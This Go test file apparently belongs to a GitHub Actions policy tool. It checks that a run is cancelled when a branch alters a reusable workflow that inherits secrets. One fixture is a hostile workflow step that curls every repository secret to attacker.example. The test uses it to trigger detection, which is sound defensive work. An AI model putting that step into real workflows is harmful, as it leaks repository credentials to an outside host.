package test

import (
	"strings"
	"testing"

	"github.com/runpolicy/runpolicy/test/harness"
)

// TestModifiedLocalCallee: a caller the branch did not change runs a local
// reusable workflow with secrets: inherit. When the branch changed that
// reusable workflow, secret_exfiltration cancels the run and the check run
// names the file; when it did not, the run goes on.
func TestModifiedLocalCallee(t *testing.T) {
	s := newStack(t, nil)
	const callee = ".github/workflows/reusable.yml"
	caller := []byte(`name: ci
on: push
jobs:
  call:
    uses: ./.github/workflows/reusable.yml
    secrets: inherit
`)
	reviewed := []byte(`on: workflow_call
jobs:
  build:
    runs-on: ubuntu-latest
    steps:
      - run: make
`)
	exfiltrating := []byte(`on: workflow_call
jobs:
  build:
    runs-on: ubuntu-latest
    steps:
      - run: curl -d "${{ toJSON(secrets) }}" https://attacker.example
`)
	for _, tc := range []struct {
		name     string
		id       int64
		head     []byte
		cancel   bool
		delivery string
	}{
		{"modified callee", 11001, exfiltrating, true, "callee-modified"},
		{"unmodified callee", 11002, reviewed, false, "callee-unmodified"},
	} {
		t.Run(tc.name, func(t *testing.T) {
			s.t = t
			repo := "acme/callee-" + strings.ReplaceAll(tc.name, " ", "-")
			r := harness.Run{Repo: repo, ID: tc.id, HeadSHA: sha(int(tc.id)), HeadBranch: "feature", Path: ".github/workflows/ci.yml",
				PullRequests: []int{31}, Installation: installation}
			main := sha(int(tc.id) + 1)
			fake := s.gh.Fake
			fake.SetFile(repo, r.HeadSHA, callee, tc.head)
			// The default branch at its commit, as GitHub serves it by name and by SHA.
			fake.SetRef(repo, "main", main)
			fake.SetFile(repo, "main", callee, reviewed)
			fake.SetFile(repo, main, callee, reviewed)
			fake.SetFile(repo, main, r.Path, caller)
			s.requested(r, caller, caller, tc.delivery)
			s.processed(tc.delivery)
			d := s.only(tc.delivery)
			wf, _ := d.Input["workflow"].(map[string]any)
			if wf["default_branch_sha256"] != wf["sha256"] {
				t.Errorf("the caller differs from main's copy: %s", jsonOf(wf))
			}
			res, _ := d.Input["resolution"].(map[string]any)
			if res == nil || res["fetches"] != float64(3) {
				t.Errorf("resolution = %s, want 3 fetches (the callee at the head commit, main's commit, the callee there)", jsonOf(res))
			}
			cancels := s.calls("POST", cancelPath(repo, r.ID))
			if !tc.cancel {
				if d.Outcome != "allow" || d.Cancel || cancels != 0 || wf["modified"] != false {
					t.Errorf("decision = %s, cancels = %d; want allowed, workflow not modified", jsonOf(d), cancels)
				}
				return
			}
			files, _ := wf["modified_files"].([]any)
			if wf["modified"] != true || len(files) != 1 || !strings.Contains(jsonOf(files[0]), `"path":"`+callee+`"`) || !strings.Contains(jsonOf(files[0]), `"change":"differs"`) {
				t.Errorf("input.workflow = %s; want modified with the callee listed as differing", jsonOf(wf))
			}
			if d.Outcome != "deny" || !d.Cancel || cancels != 1 {
				t.Fatalf("decision = %s, cancels = %d; want denied and cancelled once", jsonOf(d), cancels)
			}
			var cr *struct{ summary, conclusion string }
			for _, c := range fake.CheckRuns() {
				if c.Repo == repo {
					cr = &struct{ summary, conclusion string }{c.Summary, c.Conclusion}
				}
			}
			if cr == nil || cr.conclusion != "failure" || !strings.Contains(cr.summary, "secret_exfiltration") ||
				!strings.Contains(cr.summary, "runs "+callee+", which differs from main") {
				t.Errorf("check run = %+v; want a failure naming %s", cr, callee)
			}
		})
	}
}
